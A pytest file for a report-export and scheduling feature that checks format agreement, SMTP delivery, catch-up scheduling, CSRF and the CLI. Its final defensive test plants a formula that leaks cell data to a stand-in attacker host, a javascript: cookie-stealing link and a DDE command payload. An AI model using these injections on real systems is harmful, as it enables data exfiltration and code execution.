"""Every format comes from the one report object and agrees; PDF renders; email goes through a real SMTP
server (aiosmtpd on loopback); the schedule runs what is due and catches a missed run up exactly once;
the Reports page lists, opens and schedules."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.models.reports import ReportRun
from app.reports.compute import build_report
from app.reports.data import Report, to_dict
from app.reports.delivery import SmtpSettings, send_report
from app.reports.render import (
    ReportFormatError,
    csv_tables,
    fmt_dec,
    fmt_hours,
    fmt_num,
    fmt_pct,
    fmt_pp,
    render_html,
    render_json,
    render_pdf,
)
from app.reports.schedule import add_schedule, run_due
from tests.app.queue_helpers import PASSWORD, _fresh_rate_limits, login  # noqa: F401  (autouse: a fresh context per request)
from tests.app.reports_site import WEEK, Site, build_site
from tests.app.smtp_support import Inbox, free_port, serve_smtp
from tests.conftest import IN_CI


@pytest.fixture
def site(db_session: Session, make_source: Any, make_article: Any, make_comment: Any, make_user: Any) -> Site:
    return build_site(db_session, make_source, make_article, make_comment, make_user)


@pytest.fixture
def report(db_session: Session, site: Site) -> Report:
    return build_report(db_session, WEEK)


class _Figures(HTMLParser):
    """Collects the text of every element carrying data-figure (and its nested text)."""

    def __init__(self) -> None:
        super().__init__()
        self.figures: dict[str, str] = {}
        self._open: list[tuple[str | None, list[str]]] = []
        self.images: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "img":
            self.images.append(a.get("src") or "")
            return
        self._open.append((a.get("data-figure"), []))

    def handle_endtag(self, tag: str) -> None:
        if tag == "img" or not self._open:
            return
        name, parts = self._open.pop()
        text = "".join(parts).strip()
        if name:
            self.figures[name] = text
        if self._open:
            self._open[-1][1].append(text if not name else "")

    def handle_data(self, data: str) -> None:
        if self._open:
            self._open[-1][1].append(data)


def _lookup(data: dict[str, Any], path: str) -> Any:
    parts = path.split(".")
    node: Any = data
    i = 0
    while i < len(parts):  # label_rates.<label>.<field> picks a list item by its label
        key = parts[i]
        node = next(x for x in node if x["label"] == key) if isinstance(node, list) else node[key]
        i += 1
    return node


def _fmt(path: str, value: Any) -> str:
    leaf = path.rsplit(".", 1)[-1]
    if leaf == "trend":
        return fmt_pp(value)
    if "rate" in leaf or "share" in leaf:
        return fmt_pct(value)
    if "hours" in leaf:
        return fmt_hours(value)
    if leaf == "replies_per_comment":
        return fmt_dec(value)
    if isinstance(value, str):
        return value
    return fmt_num(value)


def test_json_html_and_csv_agree(report: Report) -> None:
    data = json.loads(render_json(report))
    assert data == json.loads(json.dumps(to_dict(report)))
    html, _charts = render_html(report)
    parser = _Figures()
    parser.feed(html)
    assert len(parser.figures) >= 40
    for path, shown in parser.figures.items():
        assert shown == _fmt(path, _lookup(data, path)), path
    # spot-check against the hand-made answers so agreement is not agreement on nonsense
    assert parser.figures["volume.comments"] == "11" and parser.figures["moderation.overturn_rate"] == "33.3%"
    tables = csv_tables(report)
    summary = dict(csv.reader(io.StringIO(tables["summary.csv"])))
    for path in ("volume.comments", "volume.new_authors", "health.incidents_total", "moderation.keep_or_remove_decisions",
                 "health.derailing.derailed", "moderation.latency_p95_hours"):
        assert summary[path] == str(_lookup(data, path)), path
    rates = list(csv.DictReader(io.StringIO(tables["label_rates.csv"])))
    assert [(r["label"], int(r["count"])) for r in rates] == [(x["label"], x["count"]) for x in data["health"]["label_rates"]]
    incidents = list(csv.DictReader(io.StringIO(tables["incidents.csv"])))
    assert [int(r["comment_id"]) for r in incidents] == [x["comment_id"] for x in data["health"]["incidents"]]
    rules = list(csv.DictReader(io.StringIO(tables["rules.csv"])))
    assert [(r["rule"], int(r["decided"]), int(r["agreed"])) for r in rules] == [
        (x["rule"], x["decided"], x["agreed"]) for x in data["moderation"]["rules"]]
    # images are embedded: four PNG data URIs, nothing fetched from anywhere
    assert len(parser.images) == 4 and all(src.startswith("data:image/png;base64,") for src in parser.images)


def test_pdf_renders(report: Report) -> None:
    html, _charts = render_html(report)
    try:
        pdf = render_pdf(html)
    except ReportFormatError as exc:
        if IN_CI:
            raise
        pytest.skip(f"WeasyPrint's system libraries are missing here: {exc}")
    # four charts embedded as images make a PDF far larger than text alone
    assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF") and len(pdf) > 40_000


@pytest.fixture
def smtp(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Inbox, int]]:
    yield from serve_smtp(monkeypatch, "reports@threadwatch.test")


def _check_inline_images(msg: EmailMessage) -> None:
    related = next(p for p in msg.walk() if p.get_content_type() == "multipart/related")
    parts = list(related.iter_parts())
    html = parts[0].get_content()
    assert parts[0].get_content_type() == "text/html"
    images = parts[1:]
    assert len(images) == 4
    for image in images:
        assert image.get_content_type() == "image/png"
        cid = image["Content-ID"].strip("<>")
        assert f'src="cid:{cid}"' in html
        assert image.get_content().startswith(b"\x89PNG")
    assert "data:image" not in html


def test_email_through_real_smtp_server(report: Report, smtp: tuple[Inbox, int]) -> None:
    inbox, port = smtp
    to = ["editor@example.test", "community@example.test"]
    send_report(report, to, SmtpSettings(host="127.0.0.1", port=port, sender="reports@threadwatch.test"),
                attachments={"r.json": (render_json(report).encode(), "application", "json")})
    assert len(inbox.messages) == 1
    rcpts, msg = inbox.messages[0]
    assert sorted(rcpts) == sorted(to)
    assert msg["Subject"] == report.meta.title and msg["From"] == "reports@threadwatch.test"
    _check_inline_images(msg)
    attachment = next(p for p in msg.iter_attachments() if p.get_filename() == "r.json")
    assert json.loads(attachment.get_content())["volume"]["comments"] == 11


def test_schedule_runs_due_and_catches_up_a_missed_run_once(db_session: Session, site: Site,
                                                            smtp: tuple[Inbox, int]) -> None:
    inbox, _port = smtp
    schedule = add_schedule(db_session, name="weekly", period_kind="week", sources=[], formats=["html", "csv"],
                            recipients=["desk@example.test"], created_at=datetime(2026, 2, 25, tzinfo=UTC))
    # Created on Wednesday 02-25: the week complete then (02-16) is its first report; on Monday 01:00
    # the week just ended (02-23) is due on time, and the first one, not run yet, is caught up.
    first = run_due(db_session, datetime(2026, 3, 2, 1, tzinfo=UTC))
    assert [(r.period_start.date().isoformat(), r.status, r.caught_up) for r in first] == [
        ("2026-02-16", "ok", True), ("2026-02-23", "ok", False)]
    assert run_due(db_session, datetime(2026, 3, 2, 2, tzinfo=UTC)) == []  # not twice
    # The scheduler is down all week and the week after starts: the missed week runs late, once.
    later = run_due(db_session, datetime(2026, 3, 16, 1, tzinfo=UTC))
    assert [(r.period_start.date().isoformat(), r.caught_up) for r in later] == [
        ("2026-03-02", True), ("2026-03-09", False)]
    assert run_due(db_session, datetime(2026, 3, 16, 5, tzinfo=UTC)) == []
    runs = db_session.scalars(select(ReportRun).where(ReportRun.schedule_id == schedule.id)).all()
    assert len(runs) == 4 and all(r.status == "ok" and r.report_ids for r in runs)
    assert len(inbox.messages) == 4
    subjects = [m["Subject"] for _r, m in inbox.messages]
    assert subjects[2].startswith("Community health — 2026-03-02") and all(r == ["desk@example.test"]
                                                                            for r, _m in inbox.messages)
    csv_zip = next(p for p in inbox.messages[2][1].iter_attachments() if p.get_filename().endswith(".csv.zip"))
    with zipfile.ZipFile(io.BytesIO(csv_zip.get_content())) as zf:
        assert "summary.csv" in zf.namelist()


def test_a_period_claimed_by_another_runner_is_skipped(db_session: Session, site: Site) -> None:
    from app.reports.periods import period_containing
    from app.reports.schedule import _claim

    schedule = add_schedule(db_session, name="daily", period_kind="day", sources=["daily-planet"], formats=["json"],
                            recipients=[], created_at=datetime(2026, 3, 1, 12, tzinfo=UTC))
    runs = run_due(db_session, datetime(2026, 3, 3, 0, 30, tzinfo=UTC))
    assert [r.period_start.day for r in runs] == [28, 1, 2]
    # a second runner (cron next to Celery beat) that read the schedule before the first one recorded
    # its run loses the insert and skips the period instead of sending it again
    day = period_containing("day", datetime(2026, 3, 2, 12, tzinfo=UTC))
    assert _claim(db_session, schedule, day, datetime(2026, 3, 3, 0, 31, tzinfo=UTC)) is None
    assert len(db_session.scalars(select(ReportRun)).all()) == 3


def test_failed_delivery_is_recorded(db_session: Session, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("THREADWATCH_SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("THREADWATCH_SMTP_PORT", str(free_port()))  # nothing listens there
    add_schedule(db_session, name="w", period_kind="week", sources=[], formats=["html"],
                 recipients=["x@example.test"], created_at=datetime(2026, 2, 25, tzinfo=UTC))
    runs = run_due(db_session, datetime(2026, 3, 2, 1, tzinfo=UTC))
    assert len(runs) == 2 and all(r.status == "failed" and "sending the report" in (r.error or "") for r in runs)
    assert run_due(db_session, datetime(2026, 3, 2, 3, tzinfo=UTC)) == []


def _login(client: Any, user: Any) -> None:
    assert login(client, user.email).status_code == 302


def test_reports_page(client: Any, db_session: Session, site: Site, make_user: Any) -> None:
    from app.reports.snapshots import get_or_build

    assert client.get("/reports/").status_code in (302, 401)
    snap = get_or_build(db_session, WEEK)
    _login(client, make_user(role="moderator", password=PASSWORD))
    page = client.get("/reports/")
    assert page.status_code == 200 and snap.row.title.encode() in page.data
    assert b"schedule-form" not in page.data
    opened = client.get(f"/reports/{snap.row.id}")
    # The stored report, with the site's links added above it (and nothing else changed).
    served = opened.data.decode()
    assert opened.status_code == 200 and 'id="site-bar"' in served and "site-bar" not in snap.row.html
    bar_start, bar_end = served.index("<nav id=\"site-bar\""), served.index("</nav>") + len("</nav>\n")
    assert served[:bar_start] + served[bar_end:] == snap.row.html
    assert "img-src data:" in opened.headers["Content-Security-Policy"]
    assert client.get(f"/reports/{snap.row.id}.json").get_json()["volume"]["comments"] == 11
    assert client.post("/reports/schedule", data={"name": "x"}).status_code in (400, 403)


def test_admin_edits_schedule_with_csrf(client: Any, db_session: Session, site: Site, make_user: Any) -> None:
    _login(client, make_user(role="admin", password=PASSWORD))
    page = client.get("/reports/").data.decode()
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page) or re.search(
        r'id="csrf_token" name="csrf_token" type="hidden" value="([^"]+)"', page)
    assert token is not None
    form = {"csrf_token": token.group(1), "name": "monday", "period": "week", "sources": "daily-planet",
            "formats": ["html", "pdf"], "recipients": "a@example.test\nb@example.test", "active": "y"}
    assert client.post("/reports/schedule", data={**form, "csrf_token": "forged"}).status_code == 400
    assert client.post("/reports/schedule", data=form).status_code == 302
    from app.reports.schedule import list_schedules

    (saved,) = list_schedules(db_session)
    assert (saved.period_kind, saved.sources, saved.formats, saved.recipients) == (
        "week", ["daily-planet"], ["html", "pdf"], ["a@example.test", "b@example.test"])
    assert client.post(f"/reports/schedule/{saved.id}/delete", data={"csrf_token": token.group(1)}).status_code == 302
    assert list_schedules(db_session) == []


def test_smtp_settings_need_a_host(monkeypatch: pytest.MonkeyPatch) -> None:
    from app.reports.delivery import DeliveryError, smtp_settings

    monkeypatch.delenv("THREADWATCH_SMTP_HOST", raising=False)
    with pytest.raises(DeliveryError, match="THREADWATCH_SMTP_HOST"):
        smtp_settings({})
    assert smtp_settings({"SMTP_HOST": "mail", "SMTP_PORT": "2525"}).port == 2525
    assert os.environ.get("THREADWATCH_SMTP_HOST") is None


def test_cli_schedule_and_run_due(runner: Any, db_session: Session, site: Site) -> None:
    added = runner.invoke(args=["reports", "schedule", "add", "weekly-desk", "--period", "week",
                                "--source", "daily-planet", "--format", "html,json"])
    assert added.exit_code == 0, added.output
    listed = runner.invoke(args=["reports", "schedule", "list"])
    assert "weekly-desk\tweek\tsources=daily-planet\tformats=html,json" in listed.output
    bad = runner.invoke(args=["reports", "schedule", "add", "x", "--source", "no-such-site"])
    assert bad.exit_code != 0 and "no-such-site" in bad.output
    ran = runner.invoke(args=["reports", "run-due"])
    assert ran.exit_code == 0, ran.output
    assert ": ok" in ran.output  # the schedule is new: the latest complete week, once
    assert "nothing due" in runner.invoke(args=["reports", "run-due"]).output
    removed = runner.invoke(args=["reports", "schedule", "remove", "weekly-desk"])
    assert removed.exit_code == 0 and "weekly-desk" not in runner.invoke(args=["reports", "schedule", "list"]).output


def test_pdf_without_weasyprint_libs_names_the_package(report: Report, monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "weasyprint", None)  # what a missing libpango looks like to Python
    with pytest.raises(ReportFormatError, match="apt-get install libpango"):
        render_pdf("<p>x</p>")


def test_run_due_is_a_declared_periodic_job() -> None:
    from app.jobs.schedule import job_named
    from app.reports.schedule import run_due_job

    job = job_named("reports-run-due")
    module, _, name = job.target.partition(":")
    assert getattr(__import__(module, fromlist=[name]), name) is run_due_job


def test_exports_neutralise_formulas_and_script_links(db_session: Session, site: Site) -> None:
    """Issue 17 item 7: titles, URLs and names come from commenters and sites; the files leave the app."""
    from markupsafe import escape

    from app.models import Article, Author

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for article in db_session.scalars(select(Article)):
        article.title = formula if article.title == "Budget vote" else article.title
        article.url = " JavaScript:alert(document.cookie)" if article.title == formula else article.url
    for author in db_session.scalars(select(Author)):
        author.display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db_session.flush()
    report = build_report(db_session, WEEK)
    cells = [cell for text in csv_tables(report).values() for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + formula in cells  # kept, readable, but as text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.e-]+", c)]
    html, _charts = render_html(report)
    assert str(escape(formula)) in html  # shown as text
    assert not re.search(r'href="\s*javascript:', html, re.IGNORECASE)
    assert "<td><bdi>@SUM(1+1)" in html  # names are isolated too (item 12)
    hrefs = re.findall(r'<a href="([^"]*)"', html)
    assert hrefs and all(h.startswith(("https://", "http://", "#")) for h in hrefs)
